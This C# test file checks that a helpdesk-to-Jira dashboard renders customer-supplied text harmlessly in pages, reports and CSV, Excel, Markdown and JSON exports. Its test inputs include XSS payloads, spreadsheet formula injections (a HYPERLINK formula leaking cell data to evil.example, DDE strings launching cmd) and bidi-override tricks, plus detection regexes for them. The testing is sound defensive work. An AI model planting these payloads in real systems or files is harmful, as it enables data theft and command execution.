using System.Globalization;
using System.Text.Json;
using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using BugBridge.Core.Export;
using BugBridge.Core.Usability;
using BugBridge.Tests.Journeys;
using CsvHelper;
using MiniExcelLibs;
using Xunit;

namespace BugBridge.Tests.Host.Dashboard;

/// <summary>
/// What customers, reps and engineers write is a text wherever it is shown: subjects, bodies, names of accounts, customers and reps, summaries,
/// categories and decisions, on every page, in every format of every pack, and in every export.
/// </summary>
public sealed partial class HostileTextTests : Journey
{
    private static readonly string[] Reports = ["first-contact", "usability", "recognition", "promises", "issues"];

    [Theory]
    [InlineData("<script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>")]
    [InlineData("\" onload=x ' autofocus onfocus=alert(1) <b>bold</b> </textarea></title><svg onload=alert(1)>")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("foo;=cmd|' /C calc'!A0;+1")]
    [InlineData("foo\t=1+1\t-2+3")]
    [InlineData("foo|@SUM(1+1)|%x")]
    [InlineData("foo;\"=1+1\";\"\"=2\"\"; \" -3")]
    [InlineData("foo;＝1+1;\t=2,=3, -4")]
    [InlineData("\u202Etxet \u2067sdrawkcab +1+1")]
    [InlineData("[Click](javascript:alert(1)) javascript:alert(1) data:text/html,<script>alert(1)</script>")]
    public async Task Whatever_is_written_stays_a_text_everywhere(string hostile)
    {
        var (tickets, keys) = await FilledAsync(hostile);
        using var visitor = new Visitor(Bridge.At("/"));
        string[] pages =
        [
            "/", "/issues", .. keys.Select(key => "/issues/" + key), "/tickets", .. tickets.Select(ticket => string.Create(CultureInfo.InvariantCulture, $"/tickets/{ticket}")),
            "/journal", "/journal?state=done", "/health", "/wall", "/deliveries", "/search?q=" + Uri.EscapeDataString(hostile), "/search?q=alert", "/search?q=text",
            .. tickets.Select(ticket => string.Create(CultureInfo.InvariantCulture, $"/panel?ticket={ticket}")),
        ];

        foreach (var page in pages)
        {
            await IsHarmlessPageAsync(await visitor.ReadAsync(page), page);
        }

        foreach (var report in Reports)
        {
            var page = await visitor.ReadAsync($"/{report}?period=2026-11");
            var document = await IsHarmlessPageAsync(page, report);
            var files = document.QuerySelectorAll(".downloads a").Select(link => link.GetAttribute("href")!).ToList();
            Assert.True(files.Count > 3, $"The page of {report} offers only {files.Count} files.");
            foreach (var file in files)
            {
                await IsHarmlessFileAsync(visitor, file);
            }
        }

        foreach (var table in ExportTables.All)
        {
            await IsHarmlessFileAsync(await visitor.ReadAsync($"/export/{table.Name}.csv"), table.Name + ".csv");
            await IsHarmlessFileAsync(await visitor.ReadAsync($"/export/{table.Name}.json"), table.Name + ".json");
        }
    }

    private async Task<(long[] Tickets, string[] Keys)> FilledAsync(string hostile)
    {
        await StartAsync(new JourneyOptions
        {
            Settings = settings => settings.Usability.Use(new UsabilityCategories(
                new UsabilityTickets { Tags = ["usability"] },
                [new Category("first", hostile) { Tags = ["ux"] }, new Category("second", hostile + " 2") { Tags = ["ux2"] }])),
        });
        var customer = Helpdesk.AddCustomer(hostile, organizationId: Helpdesk.AddOrganization(hostile));
        var rep = Helpdesk.AddRep(hostile);
        var bug = Helpdesk.FileTicket(customer, hostile, hostile, "bug");
        var reported = Helpdesk.FileTicket(customer, "Totals differ by one cent " + hostile, "On every tenth order " + hostile);
        Helpdesk.Note(reported, "/bug", rep);
        var asked = Helpdesk.FileTicket(customer, hostile, hostile, "usability", "ux");
        Helpdesk.Reply(asked, rep, hostile);
        Helpdesk.SetStatus(asked, "solved");
        await Bridge.SettleAsync();
        string[] keys = [KeyOn(bug), KeyOn(reported)];
        foreach (var key in keys)
        {
            Jira.SetSummary(key, hostile);
            Jira.Comment(key, hostile);
            Jira.SetStatus(key, "In Progress");
            Jira.SetDueDate(key, new DateOnly(2026, 11, 28));
        }

        await Bridge.PollAsync();
        await Bridge.RankAsync();
        var month = Core.Calendar.Period.Read("2026-11", Bridge.Clock.GetUtcNow(), TimeZoneInfo.Utc);
        var draft = new DecisionDraft("first", hostile, hostile.Length > 90 ? hostile[..90] : hostile, new DateOnly(2026, 12, 20), keys[0]);
        Assert.True((await Bridge.ReviewDecisions.EnterAsync(month, draft, hostile, Bridge.Token)).IsDone);
        return ([bug, reported, asked], keys);
    }

    private static async Task<IDocument> IsHarmlessPageAsync(string html, string where)
    {
        var document = await new HtmlParser().ParseDocumentAsync(html, TestContext.Current.CancellationToken);
        Assert.All(document.Scripts, script => Assert.StartsWith("/assets/", script.Source, StringComparison.Ordinal));
        Assert.True(document.QuerySelector("img[src=x], main style, main b, bdi *, svg[onload]") is null, where);
        foreach (var attribute in document.All.SelectMany(one => one.Attributes))
        {
            Assert.False(attribute.Name is "style" or "autofocus" or "srcdoc" || attribute.Name.StartsWith("on", StringComparison.Ordinal), $"{where}: {attribute.Name}");
            Assert.True(attribute.Name is not ("href" or "src" or "action" or "formaction") || Safe().IsMatch(attribute.Value), $"{where}: {attribute.Value}");
        }

        // Signs that turn the direction of text reach no further than the box that the text stands in.
        Assert.All(
            document.Body!.Descendants<IText>().Where(text => Turn().IsMatch(text.Data)),
            text => Assert.True(text.ParentElement!.Closest("bdi, textarea, option, [dir=auto]") is not null, $"{where}: {text.ParentElement!.OuterHtml}"));
        return document;
    }

    /// <summary>A PDF is the HTML, printed.</summary>
    private static Task IsHarmlessFileAsync(Visitor visitor, string file) => Path.GetExtension(file.Split('?')[0]) switch
    {
        ".pdf" => Task.CompletedTask,
        ".xlsx" => IsHarmlessWorkbookAsync(visitor, file),
        _ => IsHarmlessTextAsync(visitor, file),
    };

    private static async Task IsHarmlessTextAsync(Visitor visitor, string file) => await IsHarmlessFileAsync(await visitor.ReadAsync(file), file);

    private static async Task IsHarmlessWorkbookAsync(Visitor visitor, string file)
    {
        using var answer = await visitor.GetAsync(file);
        using var workbook = new MemoryStream(await answer.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken));
        var cells = workbook.GetSheetNames().SelectMany(sheet => workbook.Query(sheetName: sheet).Cast<IDictionary<string, object?>>()).SelectMany(row => row.Values).OfType<string>().ToList();
        Assert.NotEmpty(cells);
        Assert.All(cells, cell => Assert.False(Formula().IsMatch(cell) || Turn().IsMatch(cell), $"{file}: {cell}"));
    }

    private static async Task IsHarmlessFileAsync(string text, string where)
    {
        var name = where.Split('?')[0];
        Assert.False(Turn().IsMatch(text), where);
        switch (Path.GetExtension(name))
        {
            case ".html":
                var document = await IsHarmlessPageAsync(text, where);
                Assert.Empty(document.Scripts);
                break;
            case ".csv":
                foreach (var separator in ",;\t|")
                {
                    Assert.All(Cells(text, separator), cell => Assert.False(Formula().IsMatch(cell) && !decimal.TryParse(cell, CultureInfo.InvariantCulture, out _), $"{where}, parted at {separator}: {cell}"));
                }

                break;
            case ".md":
                Assert.DoesNotMatch("(?<!\\\\)<(?!/?(strong|em)>)[a-zA-Z/]|(?<!\\\\)\\]\\((?!https?://)", text);
                break;
            default:
                JsonDocument.Parse(text).Dispose();
                Assert.DoesNotContain("<script", text, StringComparison.OrdinalIgnoreCase);
                break;
        }
    }

    /// <summary>
    /// The cells as a program reads them that parts at this sign. At a comma they are read as they were written; at another sign, quotes may stand within a
    /// cell and then keep nothing together.
    /// </summary>
    private static List<string> Cells(string text, char separator)
    {
        if (separator != ',')
        {
            return [.. text.TrimStart('\uFEFF').Split('\r', '\n').SelectMany(line => line.Split(separator)).Select(cell => cell.Trim('"', ' '))];
        }

        using var file = new StringReader(text.TrimStart('\uFEFF'));
        using var csv = CsvReader.Create(file, new CsvReaderOptions { HasHeader = false });
        var cells = new List<string>();
        while (csv.Read())
        {
            cells.AddRange(csv.Current.ToArray());
        }

        return cells;
    }

    [GeneratedRegex("^(https?://|/(?!/)|#|$)", RegexOptions.ExplicitCapture, matchTimeoutMilliseconds: 1000)]
    private static partial Regex Safe();

    [GeneratedRegex("[\u202A-\u202E\u2066-\u2069]", RegexOptions.None, matchTimeoutMilliseconds: 1000)]
    private static partial Regex Turn();

    [GeneratedRegex("^\\s*[=+\\-@\\t|%＝＋－＠]", RegexOptions.None, matchTimeoutMilliseconds: 1000)]
    private static partial Regex Formula();
}
